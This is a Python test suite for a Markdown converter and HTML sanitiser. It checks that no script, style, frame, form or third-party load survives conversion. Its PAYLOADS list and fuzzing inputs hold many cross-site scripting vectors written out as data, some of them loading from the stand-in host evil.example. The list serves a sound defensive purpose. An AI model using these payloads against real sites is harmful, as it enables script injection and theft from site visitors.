"""Whatever an author writes, no script, style, frame, form or third-party request comes out.

What comes out is read by a parser that had no part in making it, and judged by a list of its own.
"""

from __future__ import annotations

import html as entities
import re
from urllib.parse import urljoin, urlsplit

import lxml.html
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from pipeline.markup.markdown import convert
from pipeline.markup.record import ROOT, Candidate, MarkupRecord, PictureSet
from pipeline.markup.sanitise import sanitise
from tests.examples import examples

HARMLESS = set(
    "main a abbr b blockquote br caption code dd del details div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img ins "
    "kbd li mark ol p picture pre q rp rt ruby s samp section small source span strong sub summary sup table tbody td "
    "tfoot th thead tr ul var wbr".split()
)
QUIET = set(
    "id class title lang href rel src srcset sizes width height alt loading decoding type start colspan rowspan scope open"
    .split()
)  # fmt: skip
SITE = "https://kepu.example.org/articles/x/"
OWN = "kepu.example.org"


def vectors(clean: str) -> list[str]:
    """What in a fragment could run, load or submit anything: on any page, the home page too, and in a feed."""
    found = []
    for prefix in ("", "../", "../../", "https://kepu.example.org/"):
        page = lxml.html.fragment_fromstring(clean.replace(ROOT, prefix), create_parent="main")
        for element in page.iter():
            if not isinstance(element.tag, str):
                found.append(f"{type(element).__name__} {element}")
                continue
            if element.tag not in HARMLESS:
                found.append(f"<{element.tag}>")
            for name, value in element.attrib.items():
                if str(name) not in QUIET:
                    found.append(f"{element.tag} {name}")
                found.extend(
                    f"{element.tag} {name}={value!r}"
                    for a in addresses(str(name), str(value))
                    if not safe(*a)
                )
    return found


def addresses(name: str, value: str) -> list[tuple[str, str]]:
    if name in ("href", "src"):
        return [(name, value)]
    if name == "srcset":
        return [("src", part.split()[0]) for part in value.split(",") if part.split()] or [("src", "//empty")]
    return []


def safe(kind: str, address: str) -> bool:
    """As browsers read an address: without tabs, line breaks and outer blanks, backslashes as slashes."""
    plain = re.sub(r"[\t\r\n]", "", address).strip("".join(map(chr, range(33)))).replace("\\", "/")
    split = urlsplit(urljoin(SITE, plain))
    if kind == "src":
        return split.scheme == "https" and split.hostname == OWN
    return split.scheme in ("https", "http", "mailto", "tel")


PAYLOADS = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<script/x>", "<<script>script>x",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", '<img src="https://evil.example/p.gif">',
    "<img src=//evil.example/p.gif>", '<img srcset="//evil.example/a 1x, https://evil.example/b 2x">',
    f'<img src="{ROOT}/evil.example/x">', '<img src="&#xE000;//evil.example/x">', '<img src="&#xE000;\\evil.example">',
    '<img srcset="&#xE000;a.png 1w, &#xE000;//evil.example/b 2w">', '<img srcset="&#xE000;a.png,//evil.example/b">',
    '<a href="&#xE000;//evil.example/">x</a>', '<a href="&#xE000;&#x9;//evil.example/">x</a>',
    '<a href="&#xE000;javascript:alert(1)">x</a>', "&#xE000;", '<a href="&#xE000;&#xE000;//evil.example">x</a>',
    '<img src="&#xE000;&#xE000;//evil.example/x">', '<img src="&#xE000;data:image/svg+xml,x">', "&#57344;javascript:",
    '<a href="javascript:alert(1)">x</a>', '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>', '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="vbscript:x">', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="//evil.example">x</a>',
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)>x</a>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=y>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>x</script>'>", "<object data=x>", "<embed src=x>",
    "<style>@import url(//evil.example/x.css)</style>", "<p style=background:url(//evil.example)>x</p>",
    "<form action=//evil.example><input name=a><button formaction=javascript:x>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example>",
    "<video poster=//evil.example src=//evil.example autoplay onplay=x>", "<audio src=//evil.example>",
    "<source src=//evil.example/x srcset=//evil.example/y>", "<details ontoggle=alert(1) open>x</details>",
    "<table background=//evil.example><td background=x>", "<template><script>x</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=y>\">",
    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=y>]]>", "<?php x ?>", "<!DOCTYPE x>",
    "<a href=https://a.example onclick=x style=x target=_blank ping=//evil.example>x</a>", "<isindex>", "<marquee onstart=x>",
    "[x](javascript:alert(1))", "[x](<java\tscript:alert(1)>)", "[x](data:text/html;base64,PHN2Zz4=)", "![x](javascript:alert(1))",
    "![x](//evil.example/x.png)", "![x](https://evil.example/x.png)", "[x]: javascript:alert(1)\n[x]", "<javascript:alert(1)>",
    "[x](id:li-bing#\"onclick=x)", "![x](pictures/图.png \"<script>\")", "[x](id:li-bing){onclick=alert(1) style=x}",
    "# 题 {onclick=alert(1) .x #y}", "![x](pictures/图.png){onerror=alert(1) srcset=//evil.example}", "*[a]: <script>\"onx=",
    "[^1]: <img src=x onerror=y>\n", "x[^1]", "!!! note \"<script>x</script>\"\n    <img src=x onerror=y>\n", "`<script>`", "```\n<script>\n```\n",
]  # fmt: skip
GLUE = st.sampled_from(
    [
        "",
        "\n",
        "\n\n",
        " ",
        "> ",
        "- ",
        "    ",
        "<div>",
        "</div>",
        "<p ",
        "\"'>",
        "-->",
        "</style>",
        "|",
        "**",
        "<",
        "&",
        "\t",
    ]
)
HOSTILE = st.lists(
    st.one_of(st.sampled_from(PAYLOADS), GLUE, st.text(max_size=6)), min_size=1, max_size=12
).map("".join)
PICTURES = {"pictures/图.png": PictureSet(8, 8, (Candidate("media/k/8.png", 8, "image/png"),))}


def convert_hostile(body: str) -> str:
    return convert(MarkupRecord.of(body, {"li-bing": "people/li-bing/"}, PICTURES)).html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_known_attack_leaves_nothing(payload: str) -> None:
    for body in (
        payload,
        f"- {payload}",
        f"<div>{payload}</div>",
        f"文字 {payload} 文字",
        entities.escape(payload),
    ):
        assert vectors(convert_hostile(body)) == [], body


@given(HOSTILE)
@example("<p><svg><p><style><a title='</style><img src onerror=alert(1)>'>")
@settings(max_examples=examples(100), deadline=None)
def test_no_mixture_leaves_anything(body: str) -> None:
    assert vectors(convert_hostile(body)) == []


@given(HOSTILE)
@settings(max_examples=examples(100), deadline=None)
def test_raw_html_is_no_way_in(markup: str) -> None:
    clean = sanitise(markup)
    assert vectors(clean) == []
    assert vectors(sanitise(clean)) == [], "read once more, as a browser does, it is as harmless"


def test_the_judge_sees_what_is_wrong() -> None:
    for bad in (
        "<script>x</script>", "<p onclick=x>", "<img src=//evil.example/x>", "<a href=javascript:x>", "<p style=x>",
        f'<a href="{ROOT}javascript:x"><img src="https://evil.example">', '<img srcset="../a 1w, //evil.example/b 2w">',
    ):  # fmt: skip
        assert vectors(bad), bad
    for good in (
        f'<a href="{ROOT}articles/x/#fn:1">甲</a>',
        "<p>好</p>",
        f'<img src="{ROOT}media/a.png" alt="">',
        '<a href="https://a.example/">甲</a>',
    ):
        assert not vectors(good), good


def test_what_is_written_as_code_stays_visible() -> None:
    page = lxml.html.fromstring(convert_hostile("`<script>alert(1)</script>`"))
    assert page.xpath("string(//code)") == "<script>alert(1)</script>"


def test_only_classes_of_ours() -> None:
    assert sanitise('<div class="admonition evil note x">甲</div>') == '<div class="admonition note">甲</div>'
    assert sanitise('<div class="evil">甲</div>') == "<div>甲</div>"
